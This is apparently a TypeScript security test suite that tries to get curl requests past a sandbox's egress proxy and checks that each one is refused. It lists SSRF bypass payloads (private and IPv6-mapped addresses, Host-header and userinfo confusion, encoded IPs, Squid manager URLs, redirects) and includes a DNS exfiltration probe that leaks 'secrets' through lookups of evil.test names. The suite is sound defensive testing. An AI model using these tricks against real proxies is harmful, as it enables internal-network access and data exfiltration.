import { layout } from "../../setup/seat-host/layout.ts";
import type { Attack, Verdict } from "../attack.ts";
import type { Ground } from "../ground.ts";
import { judgeClaims } from "../judge.ts";
import { CLIENT, openCopy, PRIVATE, PUBLIC } from "./proxy-copy.ts";

/** What curl is asked for, and what its last line then is where it is not the page of the doctor's server. */
type Allowed = string | readonly [request: string, says: RegExp];

/** `allowed` are the controls; each address of `tricks` must be refused and reach nobody. */
async function refuses(
  ground: Ground,
  allowed: readonly Allowed[],
  tricks: readonly string[],
): Promise<Verdict> {
  const copy = await openCopy(ground);
  if (copy === null)
    return { skipped: "a copy of the proxy can only be put up by root on the machine of the seat host" };
  const asked = allowed.map((one) => (typeof one === "string" ? ([one, /^\d+\/200$/] as const) : one));
  const works = (await copy.ask(asked.map(([one]) => `proxy ${one}`).join("\n"))).trim().split("\n");
  const control = Object.fromEntries(
    asked.map(([one, says], index) => [`allowed: ${one}`, says.test(works[index]?.trim() ?? "")]),
  );
  const claims: Record<string, boolean> = {};
  const tried = await Promise.all(tricks.map((one) => copy.ask(`proxy ${one}`)));
  for (const [index, one] of tricks.entries()) {
    const said = tried[index]?.trim() ?? "";
    const code = /\d+\/\d+$/.exec(said)?.[0] ?? "nothing";
    claims[`refused (${code}): ${one}`] = !said.includes("reached") && !/200\/|\/200/.test(said);
  }
  return judgeClaims(claims, control);
}

const FROM = "a seat's root";
const EXPECTS =
  "The proxy lets listed names through, on their own ports, to addresses that are public; nothing else.";
/** The copy takes some seconds to come up. */
const SECONDS = 120;

export const proxy: readonly Attack[] = [
  {
    id: "proxy/connect",
    title: "CONNECT to other ports and other hosts",
    from: FROM,
    expects: EXPECTS,
    seconds: SECONDS,
    run: (ground) =>
      refuses(
        ground,
        ["http://listed.test/", "-p http://listed.test:443/"],
        [
          "-p http://listed.test:22/",
          "-p http://listed.test:8080/",
          "-p http://listed.test:80/",
          "http://listed.test:8080/",
          `-p http://${PRIVATE}:443/`,
          `-p http://${PUBLIC}:443/`,
          "-p http://127.0.0.1:443/",
          `-p http://127.0.0.1:${layout.proxyPort}/`,
          "-p http://settings.test:5000/",
        ],
      ),
  },
  {
    id: "proxy/own-ports",
    title: "A host that is listed for plain HTTP by CONNECT, and one that is listed for HTTPS in the plain",
    from: FROM,
    expects:
      "Each host is reached in its own way on its own port: a mirror on port 80 does not open CONNECT 443.",
    seconds: SECONDS,
    run: (ground) =>
      refuses(
        ground,
        [
          "http://plain.test/",
          "-p http://tunnel.test:443/",
          "http://mirror.test/",
          "-p http://listed.test:443/",
        ],
        [
          "-p http://plain.test:443/",
          "-p http://plain.test:80/",
          "http://tunnel.test/",
          "http://tunnel.test:443/",
          "-p http://mirror.test:443/",
          "-p http://mirror.test:80/",
          "http://mirror.test:443/",
          "--request-target 'https://plain.test/' http://plain.test/",
          "--request-target 'https://tunnel.test/' http://tunnel.test/",
          "--request-target 'ftp://plain.test/' http://plain.test/",
        ],
      ),
  },
  {
    id: "proxy/private-names",
    title: "A listed name that resolves to a private address",
    from: FROM,
    expects: EXPECTS,
    seconds: SECONDS,
    run: (ground) =>
      refuses(
        ground,
        ["http://listed.test/", "http://settings.test:5000/"],
        [
          "http://rebound.test/",
          "http://loop.test/",
          "-p http://rebound.test:443/",
          "-p http://loop.test:443/",
          "http://settings.test/",
          "-p http://settings.test:443/",
        ],
      ),
  },
  {
    id: "proxy/ipv6",
    title: "IPv6: literals, mapped addresses, names that have only such an address",
    from: FROM,
    expects: EXPECTS,
    seconds: SECONDS,
    run: (ground) =>
      refuses(
        ground,
        ["http://listed.test/"],
        [
          "'http://[fd00::7]/'",
          "-p 'http://[fd00::7]:443/'",
          "http://six.test/",
          `'http://[::ffff:${PRIVATE}]/'`,
          "http://mapped.test/",
          "'http://[::1]/'",
        ],
      ),
  },
  {
    id: "proxy/redirects",
    title: "A listed server that redirects to a private address",
    from: FROM,
    expects: EXPECTS,
    seconds: SECONDS,
    run: (ground) =>
      refuses(
        ground,
        ["http://listed.test/", ["http://listed.test/redirect", /^\d+\/302$/]],
        ["-L http://listed.test/redirect"],
      ),
  },
  {
    id: "proxy/confusion",
    title: "Names and requests that read one way and mean another",
    from: FROM,
    expects: EXPECTS,
    seconds: SECONDS,
    run: (ground) =>
      refuses(
        ground,
        ["http://listed.test/"],
        [
          `-H 'Host: listed.test' http://${PRIVATE}/`,
          `http://listed.test@${PRIVATE}/`,
          `http://${PRIVATE}/listed.test/`,
          "http://listed.test.evil.test/",
          "http://evillisted.test/",
          "http://167838211/",
          "http://0x0a.0x01.0x02.0x03/",
          `--request-target 'http://${PRIVATE}/' http://listed.test/`,
          `--request-target '//${PRIVATE}/' -H 'Host: ${PRIVATE}' http://listed.test/`,
          "--request-target 'cache_object://127.0.0.1/info' http://listed.test/",
          `http://${CLIENT}:${layout.proxyPort}/squid-internal-mgr/info`,
        ],
      ),
  },
  {
    id: "proxy/name-tunnel",
    title: "Tell secrets by the names that the proxy looks up",
    from: FROM,
    expects: "A name that is not on the list is refused without being looked up.",
    seconds: SECONDS,
    run: async (ground) => {
      const copy = await openCopy(ground);
      if (copy === null)
        return { skipped: "a copy of the proxy can only be put up by root on the machine of the seat host" };
      const said = await copy.ask(
        `proxy http://looked-up.test/
        proxy http://secret-one.evil.test/; proxy -p http://secret-two.evil.test:443/; proxy http://x.secret-three.listed.test/
        sleep 1; echo --; cat /tmp/names`,
      );
      const looked = said.slice(said.indexOf("--"));
      return judgeClaims(
        { "the name server was not asked for a name of the attacker's": !looked.includes("secret") },
        {
          "the proxy asks the doctor's name server for a name that is listed":
            looked.includes("looked-up.test."),
        },
      );
    },
  },
];
